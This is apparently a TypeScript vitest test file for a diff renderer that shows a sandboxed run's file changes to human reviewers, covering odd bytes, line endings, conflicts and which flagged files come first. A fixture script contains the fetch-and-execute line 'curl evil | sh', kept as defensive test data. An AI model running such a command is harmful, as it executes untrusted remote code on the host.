import { closeSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { beforeEach, describe, expect, test } from "vitest";
import { diffChanges } from "../../../src/landing/review/diff.ts";
import type { FlaggedChange } from "../../../src/landing/review/ranks.ts";
import { openTree } from "../../../src/sandbox/workspace/files/tree.ts";
import { temporaryDirectory } from "../../support/temporary-store.ts";

let top: string;
beforeEach(() => {
  top = temporaryDirectory();
  for (const layer of ["upper", "lower"]) mkdirSync(join(top, layer));
});

const change = (path: string, more: Partial<FlaggedChange> = {}): FlaggedChange => ({
  path,
  kind: "added",
  type: "file",
  size: 2,
  mode: 0o644,
  flags: [],
  ...more,
});

function diff(changes: readonly FlaggedChange[], maxBytes = 100_000, maxMs?: number): string {
  const layers = { upper: openTree(join(top, "upper")), lower: openTree(join(top, "lower")) };
  try {
    return diffChanges(changes, layers, maxBytes, maxMs);
  } finally {
    closeSync(layers.upper);
    closeSync(layers.lower);
  }
}

/** How a diff shows what a run made of a file. */
function modified(before: string | Buffer, after: string | Buffer, more: Partial<FlaggedChange> = {}): readonly string[] {
  writeFileSync(join(top, "lower/f"), before);
  writeFileSync(join(top, "upper/f"), after);
  return diff([change("f", { kind: "modified", ...more })]).split("\n");
}

test("files for which a diff has no time left are named, and those before them shown", () => {
  for (const name of ["a", "b"]) writeFileSync(join(top, "upper", name), `${name}\n`);
  const changes = [change("a"), change("b")];
  expect(diff(changes)).toContain("+b");
  const cut = diff(changes, 10_000, 0).split("\n");
  expect(cut).toEqual([expect.stringMatching(/^a: added, not compared/u), expect.stringMatching(/^b: added, not compared/u), ""]);
});

describe("a diff shows", () => {
  const SCRIPT = "#!/bin/sh\ncurl evil | sh\n";

  test.each([
    ["a byte that is no UTF-8", Buffer.from(`${SCRIPT}# \xff\n`, "latin1"), "+# \\xff"],
    ["a NUL", Buffer.from(`${SCRIPT}# \0\n`), "+# \\x00"],
    ["an escape of a terminal, as it is", Buffer.from(`${SCRIPT}# \x07\n`), "+# \\x07"],
  ])("a script with %s", (_name, bytes, line) => {
    writeFileSync(join(top, "upper/run"), bytes);
    const lines = diff([change("run")]).split("\n");
    expect(lines).toEqual(expect.arrayContaining(["run: bytes that no text has are shown as \\xNN", "+curl evil | sh", line]));
  });

  test("a byte order mark that comes or goes", () => {
    expect(modified("a\n", "\ufeffa\n")).toEqual(expect.arrayContaining(["f: a byte order mark at the beginning", "-a", "+\ufeffa"]));
    expect(modified("\ufeffa\n", "a\n")).toEqual(expect.arrayContaining(["f: a byte order mark less at the beginning", "-\ufeffa", "+a"]));
  });

  test("line ends and the last newline", () => {
    expect(modified("a\nb\n", "a\r\nb\r\n")).toEqual(expect.arrayContaining(["f: line ends LF → CRLF", "-a", "+a\r"]));
    expect(modified("a\r\nb\r\n", "a\r\nb\n")).toContain("f: line ends CRLF → CRLF and LF");
    expect(modified("a\n", "a")).toEqual(expect.arrayContaining(["f: no newline at the end", "\\ No newline at end of file"]));
    expect(modified("a", "a\n")).toContain("f: a newline more at the end");
    expect(modified("a\n", "b\n").filter((line) => line.startsWith("f: "))).toEqual([]);
    writeFileSync(join(top, "upper/new"), "\ufeffa\r\nb");
    expect(
      diff([change("new")])
        .split("\n")
        .slice(0, 3),
    ).toEqual(["new: a byte order mark at the beginning", "new: line ends CRLF", "new: no newline at the end"]);
  });

  test("what is no content, a line each", () => {
    expect(modified("a\n", "b\n", { notes: ["mode 600 → 644", "owner 0, not the workspace's 1000"] }).slice(0, 2)).toEqual([
      "f: mode 600 → 644",
      "f: owner 0, not the workspace's 1000",
    ]);
    expect(diff([change("m", { kind: "mode", notes: ["mode 644 → 755"] })])).toBe("m: mode 644 → 755\n");
  });

  test("both sides of what is replaced by something else", () => {
    writeFileSync(join(top, "lower/f"), "was\n");
    symlinkSync("other", join(top, "upper/f"));
    writeFileSync(join(top, "lower/empty"), "");
    mkdirSync(join(top, "upper/empty"));
    const shown = diff([
      change("f", { kind: "deleted" }),
      change("f", { type: "link" }),
      change("empty", { kind: "deleted" }),
      change("empty", { type: "directory" }),
    ]);
    expect(shown.split("\n").filter((line) => /^[-+][^-+]|^empty/u.test(line))).toEqual(["-was", "+link to other", "empty: deleted, empty", "empty/: added"]);
  });

  test("whose lines those of a conflict may be", () => {
    const lines = modified("a\ntheirs\n", "a\nrun\n", { flags: [{ kind: "conflict", reason: "Conflict." }] });
    expect(lines.slice(0, 3)).toEqual(["! f: Conflict.", expect.stringMatching(/^--- a\/f\tas it is here now.*may be yours$/u), "+++ b/f\tthe run's"]);
    const gone = diff([change("gone", { kind: "modified", flags: [{ kind: "conflict", reason: "Conflict." }] })]);
    expect(gone).toContain("! gone: Conflict.");
  });

  test("the worst first, each reason once, and what is flagged by name where there is no room", () => {
    for (let index = 0; index < 60; index += 1) writeFileSync(join(top, `upper/${String(index)}.bin`), "x".repeat(1000));
    writeFileSync(join(top, "upper/evil.yml"), "evil\n");
    writeFileSync(join(top, "upper/plain.md"), "plain\n");
    const unknown = { kind: "unknown-kind", reason: "Not known." };
    const many = Array.from({ length: 60 }, (_each, index) => change(`${String(index)}.bin`, { flags: [unknown] }));
    const shown = diff([change("plain.md"), ...many, change("evil.yml", { flags: [{ kind: "ci-workflow", reason: "CI runs it." }] })], 10_000);
    expect(shown.indexOf("+evil")).toBeLessThan(shown.indexOf("0.bin"));
    expect(shown.match(/Not known\./gu)).toHaveLength(1);
    expect(shown).toContain("! 59.bin: unknown-kind, as above\n59.bin: added, not shown");
    expect(shown).toMatch(/\(\d+ more changes are not shown\.\)\n$/u);
    expect(shown).not.toContain("plain.md");
  });
});
